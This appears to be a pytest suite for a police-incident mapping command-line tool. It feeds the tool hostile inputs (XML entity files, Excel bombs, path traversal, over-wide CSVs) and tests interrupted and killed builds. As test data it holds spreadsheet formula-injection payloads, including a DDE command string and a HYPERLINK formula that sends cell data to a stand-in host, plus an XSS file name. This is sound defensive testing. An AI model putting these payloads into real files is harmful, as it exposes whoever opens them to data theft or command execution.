"""Hostile and faulty files, interrupted and killed runs, as a subprocess with limits.

Each case is made in code at a small size and run as the installed ``patrolmap`` command under
a memory, CPU-time and core-size limit. A refused input ends with exit code 2 and one line on
stderr: no traceback, no core dump, bounded peak memory, nothing written outside the chosen
folder, every input unchanged (by hash). A build killed at any point leaves the map's folder
with the whole old or the whole new release, which the audit passes.
"""

from __future__ import annotations

import hashlib
import json
import os
import resource
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest
from _hostile_files import deep_gpx, entity_gpx, header_row, incidents_csv, wide_xlsx, xlsx
from conftest import INSIDE_LATLNG, write_text

EXE = Path(sys.executable).with_name("patrolmap")
MEMORY_LIMIT = 3 << 30  # address space; the libraries alone map about 1.5 GB
PEAK_RSS_MB = 900  # a normal small build peaks near 350 MB
CPU_SECONDS = 120


def _limits() -> None:
    resource.setrlimit(resource.RLIMIT_AS, (MEMORY_LIMIT, MEMORY_LIMIT))
    resource.setrlimit(resource.RLIMIT_CPU, (CPU_SECONDS, CPU_SECONDS))
    resource.setrlimit(resource.RLIMIT_CORE, (0, 0))


class Run:
    """A finished subprocess: exit code, stdout, stderr and its own peak memory."""

    def __init__(self, code: int, out: str, err: str, peak_mb: float) -> None:
        self.code, self.out, self.err, self.peak_mb = code, out, err, peak_mb


def start(args: list[str], cwd: Path, env: dict | None = None) -> subprocess.Popen:
    return subprocess.Popen(args, cwd=cwd, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                            text=True, preexec_fn=_limits,
                            env={**os.environ, "PYTHONWARNINGS": "ignore", **(env or {})})


def finish(proc: subprocess.Popen, timeout: float = 300) -> Run:
    """Wait for ``proc`` and measure its peak memory with wait4 (its own, not all children)."""
    deadline = time.monotonic() + timeout
    while True:
        pid, status, usage = os.wait4(proc.pid, os.WNOHANG)
        if pid:
            break
        if time.monotonic() > deadline:
            proc.kill()
            pytest.fail(f"{proc.args} did not finish in {timeout} s")
        time.sleep(0.05)
    proc.returncode = os.waitstatus_to_exitcode(status)
    out, err = proc.stdout.read(), proc.stderr.read()
    return Run(proc.returncode, out, err, usage.ru_maxrss / 1024)


def patrolmap(*args: str, cwd: Path, env: dict | None = None) -> Run:
    return finish(start([str(EXE), *args], cwd, env))


def digests(folder: Path) -> dict[str, str]:
    return {str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(folder.rglob("*")) if p.is_file()}


def assert_refused(run: Run, *, words: str = "") -> None:
    """Exit 2, one line naming the problem, no traceback, no crash, bounded memory."""
    assert run.code == 2, (run.code, run.err[-800:])
    lines = run.err.splitlines()
    assert len(lines) == 1, run.err
    assert lines[0].startswith("patrolmap: error: ")
    assert "Traceback" not in run.err and "internal error" not in run.err
    assert words.lower() in lines[0].lower(), lines[0]
    assert run.peak_mb < PEAK_RSS_MB, run.peak_mb


@pytest.fixture
def work(tmp_path: Path) -> Path:
    """An input folder and an empty output folder; the test checks nothing else changes."""
    (tmp_path / "in").mkdir()
    (tmp_path / "out").mkdir()
    return tmp_path


def refused_build(work: Path, *args: str, words: str = "", env: dict | None = None) -> Run:
    before = digests(work / "in")
    run = patrolmap("build", *args, cwd=work / "in", env=env)
    assert_refused(run, words=words)
    assert digests(work / "in") == before, "an input changed"
    assert sorted(p.name for p in work.iterdir()) == ["in", "out"]
    assert [p for p in (work / "out").rglob("*") if p.is_file()] == []
    return run


# ------------------------------------------------------------------ hostile files

@pytest.mark.slow
def test_hostile_files_are_refused_in_one_line(work):
    """Each file kills nothing and costs little: deep GPX, entities, Excel bombs, wide CSV."""
    inside = work / "in"
    ok = incidents_csv(inside / "ok.csv")
    secret = write_text(inside / "secret.txt", "root:x:0:0:TOPSECRET:/root:/bin/bash\n")
    cases = {
        "nested deeper than 64": ["--patrols", str(deep_gpx(inside / "deep.gpx"))],
        "document type or entities": ["--patrols", str(entity_gpx(inside / "lol.gpx", secret))],
        "a cell's column: 16,384": ["--incidents", str(wide_xlsx(inside / "wide.xlsx"))],
        "declared width in columns": ["--incidents", str(xlsx(
            inside / "dim.xlsx", header_row(), dimension="A1:XFD1048576"))],
        "columns in the header": ["--incidents", str(write_text(
            inside / "wide.csv", ",".join(f"c{i}" for i in range(300_000)) + "\n1\n"))],
    }
    for words, args in cases.items():
        if "--incidents" not in args:
            args = ["--incidents", str(ok), *args]
        run = refused_build(work, *args, "--out", str(work / "out" / "m.html"), words=words)
        assert "TOPSECRET" not in run.err


def test_a_huge_shared_string_is_refused_before_it_is_read(work):
    """A .xlsx of a few KB unpacking to a 24 MB string (limit lowered to 8 MB to stay small)."""
    book = xlsx(work / "in" / "strings.xlsx", header_row(), strings=("x" * (24 << 20),))
    assert book.stat().st_size < 100_000
    refused_build(work, "--incidents", str(book), "--out", str(work / "out" / "m.html"),
                  words="shared strings: 24 MB, over the limit of 8 MB",
                  env={"PATROLMAP_MAX_STRINGS_MB": "8"})


def test_an_unreadable_input_is_named_never_quoted(work):
    secret = write_text(work / "in" / "passwd", "root:x:0:0:TOPSECRET:/root:/bin/bash\n" * 3)
    run = refused_build(work, "--incidents", str(secret), "--out", str(work / "out" / "m.html"),
                        words="passwd")
    assert "TOPSECRET" not in run.err and "root:x" not in run.err


# ------------------------------------------------------------------ paths

@pytest.mark.slow
def test_an_output_that_is_an_input_is_refused(work):
    inc = incidents_csv(work / "in" / "incidents.csv")
    pq = work / "in" / "incidents.parquet"
    import pandas as pd

    pd.read_csv(inc).to_parquet(pq)
    recipe = write_text(work / "in" / "r.toml", '[inputs]\nincidents = "incidents.parquet"\n'
                        '[map]\nout = "m.html"\ngis = "incidents.parquet"\n')
    before = digests(work / "in")
    run = patrolmap("build", "--recipe", str(recipe), cwd=work / "in")
    assert_refused(run, words="is an input of this run")
    assert digests(work / "in") == before
    link = work / "in" / "link.csv"
    os.link(inc, link)  # the same file by another name
    refused_build(work, "--incidents", str(link), "--out", str(work / "out" / "m.html"),
                  "--gis", str(work / "out" / "x.gpkg"), "--png", str(inc.with_suffix(".png")),
                  words="every output of a build goes in the map's folder")
    run = patrolmap("check", str(inc), "--rejects-dir", str(work / "in"), cwd=work / "in")
    assert run.code == 0  # incidents_rejects.csv is not an input: allowed
    os.link(inc, work / "in" / "incidents_rejects.csv")
    run = patrolmap("check", str(inc), "--rejects-dir", str(work / "in"), cwd=work / "in")
    assert_refused(run, words="is an input of this run")


@pytest.mark.slow
def test_recipe_outputs_stay_in_the_recipe_folder(work):
    incidents_csv(work / "in" / "incidents.csv")
    recipe = write_text(work / "in" / "r.toml", '[inputs]\nincidents = "incidents.csv"\n'
                        '[map]\nout = "../../../../elsewhere/x.html"\n')
    refused_build(work, "--recipe", str(recipe), words="leaves the recipe's folder")
    done = patrolmap("-q", "build", "--recipe", str(recipe), "--out", str(work / "out" / "x.html"),
                     "--no-report", cwd=work / "in")
    assert done.code == 0, done.err  # an explicit --out on the command line may go anywhere
    assert (work / "out" / "x.html").exists()


# ------------------------------------------------------------------ clean exits

@pytest.mark.parametrize("args, words", [
    (["--epsilon", "inf"], "privacy budget must be a number from 0.01 to 10"),
    (["--epsilon", "nan"], "privacy budget"),
    (["--bands", "day=06-18,evening=18-22"], "--bands has no band 'night'"),
    (["--posts-band", "dawn"], "--posts-band dawn: no such band"),
    (["--cap", "inf"], "--cap and --reach must be positive"),
    (["--res", "x"], "argument --res: 'x' is not auto or a whole number"),
])
def test_usage_errors_are_one_line(work, capsys, args, words):
    """In process, for speed: the same ``main`` the console command runs."""
    from geo.cli import main

    inc = incidents_csv(work / "in" / "incidents.csv")
    try:
        code = main(["build", "--incidents", str(inc), "--out", str(work / "out" / "m.html"),
                     *args])
    except SystemExit as stop:  # argparse's own usage errors
        code = stop.code
    assert_refused(Run(code, "", capsys.readouterr().err, 0), words=words)
    assert [p for p in (work / "out").rglob("*") if p.is_file()] == []


def _staged(out: Path) -> bool:
    """Whether a build has written a file into its staging folder in ``out``."""
    try:
        return any(f.is_file() for stage in out.glob(".m.new-*") for f in stage.rglob("*"))
    except OSError:  # the folder went while it was read
        return False


@pytest.mark.slow
@pytest.mark.parametrize("when", [0.3, 1.0, 2.5, "writing"])
def test_ctrl_c_at_any_point_is_one_line_and_130(work, when):
    """From the imports at start-up to the writing of files (the moment the first file
    appears in the build's staging folder, however fast the machine)."""
    inc = incidents_csv(work / "in" / "incidents.csv", n=200)
    out = work / "out"
    proc = start([str(EXE), "build", "--incidents", str(inc), "--out", str(out / "m.html"),
                  "--png", "--pdf"], work / "in")
    if when == "writing":
        deadline = time.monotonic() + 300
        while proc.poll() is None and time.monotonic() < deadline and not _staged(out):
            time.sleep(0.002)
        assert proc.poll() is None, "the build ended before its files were staged"
    else:
        time.sleep(when)
    os.kill(proc.pid, signal.SIGINT)
    run = finish(proc)
    if run.code == 0 and when != "writing":
        pytest.skip(f"the build finished within {when} s")
    assert run.code == 130, run.err
    assert run.err.strip().splitlines() == ["patrolmap: interrupted"], run.err
    assert not list((work / "out").glob("m*")), "an interrupted build left output in place"
    assert not [p for p in (work / "out").iterdir() if p.name.startswith(".m.new")]


# ------------------------------------------------------------------ releases and kills

QUICK = ["--permutations", "99", "--new-posts", "0", "--no-report-pdf"]
"""Options that make the release tests' builds quick; what they write is the same set."""

_KILLER = """
import os, signal, sys
import geo._release as release
import geo.pipeline as pipeline

point, count = sys.argv[1], int(sys.argv[2])
seen = []

def die():
    os.kill(os.getpid(), signal.SIGKILL)

if point == "place":  # killed after `count` staged files were put in place
    real = os.replace
    def replace(src, dst):
        if ".map.new-" in str(src) and not str(src).endswith(".part"):
            if len(seen) == count:
                die()
            seen.append(dst)
        real(src, dst)
    os.replace = replace
elif point == "pdf":  # killed half way through writing the PDF page
    real_picture = pipeline.render_picture
    def half_pdf(published, path, **kwargs):
        if str(path).endswith(".pdf"):
            with open(path, "wb") as fh:
                fh.write(b"%PDF-1.4 half")
            die()
        return real_picture(published, path, **kwargs)
    pipeline.render_picture = half_pdf
elif point == "commit":  # killed just before the commit record is renamed
    real_write = release._write_json
    def write(path, data):
        if path.name.endswith(".commit.json"):
            path.with_name(path.name + ".part").write_text("{")
            die()
        real_write(path, data)
    release._write_json = write
from geo.__main__ import console
sys.argv = ["patrolmap", *sys.argv[3:]]
console()
"""


def release_state(folder: Path, name: str) -> tuple[str, dict[str, str]]:
    """The release a folder holds (by its record) and the digests of the files it shows."""
    record = json.loads((folder / f".{name}.release.json").read_text())
    shown = {p.name: hashlib.sha256(p.read_bytes()).hexdigest()
             for p in folder.iterdir() if p.is_file() and p.name.startswith(name)}
    return record["release"], shown


def assert_whole(folder: Path, name: str, releases: dict[str, dict[str, str]]) -> str:
    """After the audit (which passes), the folder shows exactly the files of one known
    release; returns its id."""
    audited = patrolmap("audit", *map(str, sorted(folder.glob(f"{name}*"))), cwd=folder)
    assert audited.code == 0, audited.out + audited.err
    release, shown = release_state(folder, name)
    assert shown == releases[release], f"folder shows a mix: {shown} vs {releases[release]}"
    return release


def recorded(folder: Path, name: str) -> dict[str, str]:
    record = json.loads((folder / f".{name}.release.json").read_text())
    return {f["name"]: f["sha256"] for f in record["files"]}


@pytest.fixture(scope="module")
def old_release(tmp_path_factory) -> tuple[Path, Path, dict]:
    """A folder holding a first release (map, report, PDF, picture) and the inputs of a new one."""
    base = tmp_path_factory.mktemp("release")
    assert patrolmap("-q", "sample", "--out", str(base / "s"), "--days", "7", cwd=base).code == 0
    first = patrolmap("-q", "build", "--recipe", str(base / "s" / "recipe.toml"), "--out",
                      str(base / "m" / "map.html"), "--png", "--pdf", *QUICK, cwd=base)
    assert first.code == 0, first.err
    old = recorded(base / "m", "map")
    assert set(old) == {"map.html", "map_report.html", "map.pdf", "map.png"}
    return base, base / "m", old


def _copy_folder(folder: Path, to: Path) -> Path:
    import shutil

    shutil.copytree(folder, to, symlinks=True)
    return to


@pytest.mark.slow
@pytest.mark.parametrize("point, count", [("pdf", 0), ("commit", 0), ("place", 2)])
def test_killed_at_any_point_the_folder_holds_one_whole_release(old_release, tmp_path, point,
                                                                count):
    base, first, old = old_release
    folder = _copy_folder(first, tmp_path / "m")
    old_id, _ = release_state(folder, "map")
    args = ["build", "--recipe", str(base / "s" / "recipe.toml"), "--out",
            str(folder / "map.html"), "--pdf", "--title", "The new release", *QUICK]
    proc = start([sys.executable, "-c", _KILLER, point, str(count), *args], tmp_path)
    run = finish(proc)
    assert run.code == -signal.SIGKILL, run.err
    if point == "place":  # the commit record decided the new release: the audit finishes it
        assert (folder / ".map.commit.json").exists()
        new = json.loads(next(folder.glob(".map.new-*/release.json")).read_text())
        audited = patrolmap("audit", str(folder / "map.html"), cwd=tmp_path)
        assert "finished putting the release of map in place" in audited.err
        releases = {old_id: old, new["release"]: {f["name"]: f["sha256"] for f in new["files"]}}
        assert assert_whole(folder, "map", releases) == new["release"]
        assert set(recorded(folder, "map")) == {"map.html", "map_report.html", "map.pdf"}
        assert (folder / ".previous" / "map" / "map.png").exists()
    else:  # killed before the release was decided: the old one stands, whole
        assert assert_whole(folder, "map", {old_id: old}) == old_id



@pytest.mark.slow
def test_sigkill_from_outside_at_several_moments(old_release, tmp_path):
    base, first, old = old_release
    old_id, _ = release_state(first, "map")
    for delay in (2.0, 5.5):
        folder = _copy_folder(first, tmp_path / f"m{delay}")
        proc = start([str(EXE), "build", "--recipe", str(base / "s" / "recipe.toml"), "--out",
                      str(folder / "map.html"), "--png", "--pdf", *QUICK], tmp_path)
        time.sleep(delay)
        os.kill(proc.pid, signal.SIGKILL)  # not proc.kill(): that would reap it unmeasured
        finish(proc)
        release = release_state(folder, "map")[0]
        assert_whole(folder, "map", {old_id: old, release: recorded(folder, "map")})


@pytest.mark.slow
def test_replacing_a_release_keeps_it_and_says_so(old_release, tmp_path):
    base, first, old = old_release
    folder = _copy_folder(first, tmp_path / "m")
    old_id, _ = release_state(folder, "map")
    run = patrolmap("build", "--recipe", str(base / "s" / "recipe.toml"), "--out",
                    str(folder / "map.html"), *QUICK, cwd=tmp_path)
    assert run.code == 0, run.err
    assert f"replacing {old_id}" in run.out and ".previous" in run.out
    assert set(recorded(folder, "map")) == {"map.html", "map_report.html"}
    assert not (folder / "map.png").exists()  # the old pictures are not left beside the new map
    assert not (folder / "map.pdf").exists()
    kept = folder / ".previous" / "map"
    assert digests(kept) == {**old, "release.json": digests(kept)["release.json"]}


# ------------------------------------------------------------------ text is text

HOSTILE_TITLE = r"Gaps $\frac{1$ and $x^2$ at 50$"
HOSTILE_NOTE = r"Police data $\alpha$, costs $5 and $\bad{$"
HOSTILE_CATEGORIES = (r"fight $\sqrt{2}$", r"theft $\invalid{", "=HYPERLINK(\"x\")")


def _pdf_text(path: Path) -> str:
    from pypdf import PdfReader

    return " ".join(" ".join(page.extract_text().split()) for page in PdfReader(path).pages)


def test_dollars_in_titles_notes_and_categories_are_drawn_as_written(tmp_path, monkeypatch):
    """PNG, picture PDF and report PDF: no math parsed, the text extracted is the text given;
    free-text categories never reach them (a taxonomy word does, and holds no dollar)."""
    from matplotlib.figure import Figure
    from matplotlib.text import Text

    from geo.cli import main

    drawn: list[Text] = []
    real = Figure.savefig

    def savefig(fig, *args, **kwargs):
        drawn.extend(fig.findobj(Text))
        return real(fig, *args, **kwargs)

    monkeypatch.setattr(Figure, "savefig", savefig)
    rows = []
    for i in range(60):
        lat, lng = INSIDE_LATLNG[i % 6]
        quoted = HOSTILE_CATEGORIES[i % 3].replace('"', '""')
        rows.append(f'{lat},{lng},2025-06-{1 + i % 28:02d} 21:00,"{quoted}"\n')
    inc = write_text(tmp_path / "h.csv", "lat,lon,time,category\n" + "".join(rows))
    out = tmp_path / "maps" / "h.html"
    assert main(["-q", "build", "--incidents", str(inc), "--out", str(out), "--title",
                 HOSTILE_TITLE, "--note", HOSTILE_NOTE, "--png", "--pdf"]) == 0
    texts = [t.get_text() for t in drawn]
    assert HOSTILE_TITLE in texts and any(HOSTILE_NOTE in t for t in texts)
    for text in drawn:  # not one string of any figure was taken for math
        assert text._preprocess_math(text.get_text())[1] is False, text.get_text()
    picture = _pdf_text(out.with_suffix(".pdf"))
    assert HOSTILE_TITLE in picture and HOSTILE_NOTE in picture
    report = _pdf_text(tmp_path / "maps" / "h_report.pdf")
    assert HOSTILE_NOTE in report
    for category in HOSTILE_CATEGORIES:  # no taxonomy word: counted as "other", never printed
        assert category not in report, category
    assert "other" in report.lower()
    assert (out.with_suffix(".png")).stat().st_size > 10_000


# ------------------------------------------------------------------ spreadsheet-safe rejects

def test_rejects_are_spreadsheet_safe_and_named_per_input(work):
    import csv

    formulas = ['=HYPERLINK("http://example.invalid/"&A1)', "=cmd|' /C calc'!A0",
                "@SUM(A1)", "+1+2", "\tx", "-1+2"]
    extra = "".join(f'42.8938,20.8652,"{f.replace(chr(34), 2 * chr(34))}",fight\n'
                    for f in formulas) + "-91.5,20.8665,2025-06-01 21:00,fight\n"
    (work / "in" / "a").mkdir()
    (work / "in" / "b").mkdir()
    first = incidents_csv(work / "in" / "a" / "incidents.csv", extra=extra)
    second = incidents_csv(work / "in" / "b" / "incidents.csv", extra=extra)
    marked = incidents_csv(work / "in" / "<b onmouseover=alert(1)>.csv", extra=extra)
    run = patrolmap("-q", "build", "--incidents", str(first), str(second), str(marked),
                    "--out", str(work / "out" / "m.html"), "--no-report", cwd=work / "in")
    assert run.code == 0, run.err
    names = sorted(p.name for p in (work / "out-restricted" / "rejects").iterdir())
    assert names == ["b_onmouseover_alert_1_rejects.csv", "incidents_2_rejects.csv",
                     "incidents_rejects.csv"]
    rejects = work / "out-restricted" / "rejects"
    text = (rejects / "incidents_rejects.csv").read_text(encoding="utf-8")
    rows = list(csv.DictReader(text.splitlines(keepends=True)))
    assert [row["value"] for row in rows] == ["'" + f for f in [*formulas, "-91.5, 20.8665"]]
    assert all(row["row"].isdigit() for row in rows)  # numbers are written as numbers
    for formula in formulas:  # quoted, with the apostrophe inside the quotes
        assert '"\'' + formula.replace('"', '""')[:5] in text


@pytest.mark.parametrize("label", [r"fight $\sqrt{2}$", "<b>theft</b>", "=HYPERLINK(1)",
                                   "x" * 81])
def test_a_taxonomy_holds_only_words(tmp_path, label):
    """A taxonomy is what community files may print: a label with markup, math or a formula
    is refused with its row and column, before anything is built."""
    from geo._errors import InputError
    from geo.inputs.taxonomy import read_taxonomy

    path = write_text(tmp_path / "taxonomy.csv",
                      'category,en,sq\nfight,Fight,Përleshje\ntheft,"' + label.replace('"', '""')
                      + '",Vjedhje\n')
    with pytest.raises(InputError, match=r"taxonomy.csv: row 3, column (en|category)"):
        read_taxonomy(path)
    good = write_text(tmp_path / "good.csv", "category,en,sq\nfight,Fight,Përleshje\n"
                      "public order,\"Public order (disturbance)\",Rendi publik\n")
    assert read_taxonomy(good).label("public order", "en") == "Public order (disturbance)"
